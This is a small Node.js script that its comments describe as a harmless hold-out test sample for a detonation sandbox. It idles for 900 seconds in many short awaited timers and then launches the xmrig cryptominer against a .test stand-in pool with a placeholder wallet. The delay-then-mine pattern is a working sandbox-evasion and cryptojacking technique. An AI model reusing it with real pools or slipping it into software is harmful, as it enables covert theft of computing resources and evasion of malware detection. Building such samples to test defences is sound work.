#!/usr/bin/node
// Waits 900 s in an async loop: 3,600 rounds of `await setTimeout(250)` from timers/promises,
// then spawns the miner stand-in (detonate hold-out test sample; harmless, fake wallet, .test
// pool).
"use strict";
const { spawn } = require("child_process");
const { setTimeout: sleep } = require("timers/promises");

const ROUNDS = 3600;
const POOL = "stratum+tcp://pool.loop.test:3333";
const WALLET =
  "4gFQq7j6mGoN4BVFcUaKyRnGd8WaNeP4akE6cZXCGD8DVQPRvaf8Wmhx7NUY2zNq4ft41UhEt2JMeDANLfk6c6mjf7Z9sS8";

async function main() {
  console.log(`waiting 900 s in ${ROUNDS} awaited timers/promises setTimeout(250) rounds`);
  const started = Date.now();
  for (let i = 0; i < ROUNDS; i++) await sleep(250);
  console.log(`waited ${((Date.now() - started) / 1000).toFixed(1)} s; starting the miner`);
  spawn("/usr/local/bin/xmrig", ["-o", POOL, "-u", WALLET, "--shares", "1"], {
    stdio: "inherit",
  }).on("exit", (code) => process.exit(code ?? 1));
}
main();
